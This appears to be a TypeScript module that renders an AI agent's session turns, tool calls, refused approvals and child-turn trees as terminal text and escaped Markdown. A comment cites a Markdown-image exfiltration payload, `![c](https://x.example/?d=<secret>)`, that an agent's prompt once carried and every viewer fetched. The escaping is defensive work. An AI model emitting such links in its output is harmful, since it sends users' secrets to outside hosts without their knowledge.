import { AgentRecords } from '../../agent/records.js'
import type { ApprovalView, ToolCallView, TurnView } from '../../agent/schemas.js'
import { codeSpan, inlineText, quotedText, type Store } from '../../persistence/index.js'
import { turnCounts, usageLine } from './printer.js'

const oneLine = (s: string | null, max = 60): string => {
  const first = (s ?? '').split('\n').find((l) => l.trim() !== '') ?? ''
  return first.length > max ? `${first.slice(0, max - 1)}…` : first
}

// A child turn (sub_loop, agent()) with its own children, read from their sessions.
export type TurnTree = TurnView & { child_turns: TurnTree[] }
export type TurnWithJournal = TurnTree & { journal: ToolCallView[] }

// Deeper than the agent allows (subLoops.maxDepth is at most 8): a cycle in rows gone wrong.
const MAX_TREE_DEPTH = 8

function childTurns(records: AgentRecords, t: TurnView, depth: number): TurnTree[] {
  if (depth >= MAX_TREE_DEPTH) return []
  return t.children.flatMap((c) => {
    const v = records.turn(c.turn_id)
    return v ? [{ ...v, child_turns: childTurns(records, v, depth + 1) }] : []
  })
}

// A session's agent turns, each with its tool-call journal and the tree of child turns it
// started (`vis sessions show`).
export function sessionTurns(store: Store, sessionId: string): TurnWithJournal[] {
  const records = new AgentRecords(store)
  return records.turnIds(sessionId).map((id) => {
    const t = records.turn(id)!
    return { ...t, child_turns: childTurns(records, t, 0), journal: records.toolCalls(id) }
  })
}

export type AgentExport = { turns: TurnWithJournal[]; approvals: ApprovalView[] }

// What `vis sessions export` adds to the transcript for agent sessions: the conversation the
// model had (its text each iteration, the answer, token usage) and every approval, refused or not.
export function sessionAgent(store: Store, sessionId: string): AgentExport {
  return { turns: sessionTurns(store, sessionId), approvals: new AgentRecords(store).approvals(sessionId) }
}

// The model's text, its answer, a task a block wrote (sub_loop(prompt)), a tool's arguments and
// errors are sandbox text: quoted or inline, escaped as the block part of the export escapes them
// (src/persistence/markdown.ts), so none of it renders as markup (fourteenth outsider pass: a
// child's prompt `![c](https://x.example/?d=<secret>)` was an image every viewer fetched).
const quoted = (text: string) => quotedText(text.trimEnd())

export function agentMarkdown(a: AgentExport): string {
  if (a.turns.length === 0) return ''
  const out = ['', '## Agent turns', '']
  for (const t of a.turns) {
    out.push(
      `### Turn ${t.position} · ${inlineText(t.status)} · ${t.model ? inlineText(t.model) : 'no model'}`,
      '',
      `${usageLine(t.usage, turnCounts(t.iterations.length))}`,
      '',
    )
    if (t.prompt) out.push('**Task**', '', quoted(t.prompt), '')
    for (const it of t.iterations) {
      const calls = it.tool_calls.length > 0 ? ` · ${it.tool_calls.length} block(s)` : ''
      const used = it.usage ? ` · ${usageLine(it.usage, 'tokens')}` : ''
      out.push(`- iteration ${it.position}${calls}${used}`)
      if (it.text) out.push('', quoted(it.text), '')
    }
    const refused = a.approvals.filter((x) => x.turn_id === t.id && x.status !== 'approved')
    for (const r of refused) {
      const args = JSON.stringify(r.args)
      const by = r.decided_by ? inlineText(r.decided_by) : 'nobody'
      out.push(
        `- refused: ${codeSpan(r.tool)} ${codeSpan(args.length > 200 ? `${args.slice(0, 200)}…` : args)} — ${inlineText(r.status)} by ${by}${r.note ? `: ${inlineText(r.note)}` : ''}`,
      )
    }
    for (const c of t.journal.filter((c) => !c.ok && !c.approval)) {
      out.push(`- failed call: ${codeSpan(c.tool)} — ${inlineText(firstLine(c.error))}`)
    }
    if (t.parent) {
      out.push(`- child of turn ${codeSpan(t.parent.turn_id)} in session ${codeSpan(t.parent.session_id)}`)
    }
    for (const line of treeLines(t.child_turns, '', inlineText)) out.push(`- ${line.trimStart()}`)
    if (t.answer !== null) out.push('', '**Answer**', '', quoted(t.answer))
    if (t.error) out.push('', `**Error** ${codeSpan(t.error.code)}: ${inlineText(t.error.message)}`)
    if (t.child_turns.length > 0) out.push('', `Usage with child turns: ${usageLine(t.tree_usage, 'tree')}`)
    out.push('')
  }
  return out.join('\n')
}

// The first line of an error, as far as any CommonMark line ending (LF, CR, CRLF).
const firstLine = (s: string | null): string => (s ?? '').split(/\r\n|\r|\n/)[0] ?? ''

// One line per child turn, nested by indentation: its status, session, task, answer or error
// and usage. `text` renders what the sandbox or a model wrote (the task, the answer, the error's
// code): as is for the terminal (visible.ts escapes controls there), escaped for Markdown.
function treeLines(
  kids: readonly TurnTree[],
  indent: string,
  text: (s: string) => string = (s) => s,
): string[] {
  return kids.flatMap((k) => {
    const end =
      k.answer !== null ? `→ ${text(oneLine(k.answer, 40))}` : k.error ? `✗ ${text(k.error.code)}` : ''
    return [
      `${indent}child   ${k.status.padEnd(9)} ${text(k.session_id)}  ${text(oneLine(k.prompt, 40))} ${end}  ${usageLine(k.usage, turnCounts(k.iterations.length))}`,
      ...treeLines(k.child_turns, `${indent}  `, text),
    ]
  })
}

export function turnLines(turns: readonly TurnWithJournal[]): string[] {
  if (turns.length === 0) return []
  const out = [`turns    ${turns.length}`]
  for (const t of turns) {
    out.push(
      `  turn ${t.position} ${t.status.padEnd(9)} ${t.model ?? ''}  ${usageLine(t.usage, turnCounts(t.iterations.length))}`,
      `    prompt  ${oneLine(t.prompt)}`,
    )
    if (t.answer !== null) out.push(`    answer  ${oneLine(t.answer)}`)
    if (t.error) out.push(`    error   ${t.error.code}: ${oneLine(t.error.message)}`)
    if (t.parent) {
      const from = t.parent.block_id ? ` block ${t.parent.block_id}` : ''
      out.push(`    parent  ${t.parent.session_id} turn ${t.parent.turn_id}${from}`)
    }
    if (t.child_turns.length > 0) {
      out.push(`    tree    ${usageLine(t.tree_usage, `${t.child_turns.length} child turn(s)`)}`)
      out.push(...treeLines(t.child_turns, '    '))
    }
    for (const c of t.journal) {
      const approval = c.approval
        ? `  approval ${c.approval.status}${c.approval.decided_by ? ` by ${c.approval.decided_by}` : ''}`
        : ''
      const result = c.ok ? `${c.result_bytes ?? 0} B` : `error: ${oneLine(c.error, 40)}`
      out.push(
        `    call    ${c.tool.padEnd(12)} ${c.duration_ms.toFixed(1).padStart(8)} ms  args ${c.args_sha256.slice(0, 12)} (${c.args_bytes} B)  ${result}${approval}`,
      )
    }
  }
  return out
}
